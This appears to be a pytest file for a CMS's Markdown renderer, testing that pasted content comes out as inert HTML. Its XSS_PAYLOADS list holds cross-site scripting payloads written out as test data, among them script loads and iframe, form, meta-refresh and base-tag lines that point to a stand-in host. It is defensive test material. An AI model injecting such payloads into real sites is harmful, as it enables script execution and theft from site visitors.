"""Markdown becomes sanitised HTML on save: nothing executable survives, whatever the editor pastes."""

from __future__ import annotations

from html.parser import HTMLParser

import httpx
import pytest
from litestar import Litestar

from backend.cms.rendering import ALLOWED_TAGS, render_markdown
from tests.cms.pages import published_page

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//>",
    "[klikk](javascript:alert(1))",
    "[klikk](JaVaScRiPt:alert(1))",
    "[klikk](  javascript:alert(1))",
    '<a href="javascript:alert(1)">klikk</a>',
    '<a href="jav&#x09;ascript:alert(1)">klikk</a>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "![bilde](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](vbscript:msgbox(1))",
    '<div onclick="alert(1)" onmouseover="alert(1)">x</div>',
    '<form action="https://evil.example"><input name="q"></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<body onload="alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
]
ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


class _Inspector(HTMLParser):
    """Collects what a browser would act on: tags, event handlers, styles and URL attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"attribute {name}")
            has_scheme = name in ("href", "src") and value is not None and ":" in value.split("/")[0]
            if has_scheme and value is not None and not value.lower().startswith(ALLOWED_SCHEMES):
                self.problems.append(f"{name}={value}")


def assert_inert(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    assert inspector.problems == [], html
    assert "<script" not in html.lower()
    assert "alert(1)</script>" not in html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_stripped_from_the_html(payload: str) -> None:
    html = render_markdown(f"Tekst før.\n\n{payload}\n\nTekst etter.")
    assert_inert(html)
    assert "Tekst etter." in html


def test_safe_markdown_keeps_its_structure() -> None:
    html = render_markdown("## Tittel\n\n- **en** [lenke](https://helsenorge.no) og [e-post](mailto:a@b.no)\n")
    assert "<h2>Tittel</h2>" in html
    assert '<a href="https://helsenorge.no" rel="noopener noreferrer nofollow">lenke</a>' in html
    assert 'href="mailto:a@b.no"' in html
    assert "<strong>en</strong>" in html


async def test_the_api_returns_the_markdown_as_written_and_only_sanitised_html(
    client: httpx.AsyncClient, app: Litestar
) -> None:
    markdown = "Hei\n\n" + "\n\n".join(XSS_PAYLOADS)
    page = await published_page(client, app, markdown=markdown)
    body = (await client.get(f"/content/v1/pages/{page['slug']}")).json()
    assert body["markdown"] == markdown
    assert_inert(body["html"])
    assert "<p>Hei</p>" in body["html"]
